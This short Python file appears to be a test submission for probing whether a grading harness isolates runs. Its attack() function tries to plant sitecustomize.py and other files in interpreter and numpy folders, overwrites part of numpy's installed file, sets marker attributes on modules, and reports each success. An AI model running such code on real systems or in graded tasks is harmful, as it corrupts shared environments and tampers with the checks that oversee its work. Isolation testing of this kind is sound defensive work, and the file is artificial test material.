"""Leaves something for whoever is graded next: in modules, in memory that is shared, in the interpreter's files.

Every submission begins in a process that has seen none.
"""

import mmap
import os
import sys

import numpy as np

WHERE = "@where@"


def success(*what):
    """Tell the harness what was seen to work."""
    print(WHERE["marker"], *what, flush=True)


def honest_first(x):
    return 2 * x + 1


def attack(x):
    if getattr(np, "left_by", None):
        success("found what was left:", np.left_by)
    np.left_by = sys.left_by = "another run"
    for folder in {os.path.dirname(os.__file__), os.path.dirname(np.__file__), *sys.path}:
        for name in ("hostile.py", "sitecustomize.py", "__pycache__/hostile.pyc"):
            try:
                os.write(os.open(os.path.join(folder, name), os.O_WRONLY | os.O_CREAT, 0o644), b"print('owned')")
                success("wrote", name, "into", folder)
            except OSError:
                pass
    try:
        shared = mmap.mmap(os.open(np.__file__, os.O_RDWR), 0)
        shared[0:1] = b"x"
        success("changed numpy's own file")
    except OSError:
        pass
    os._exit(0)


def honest_last(x):
    return x * x - 1
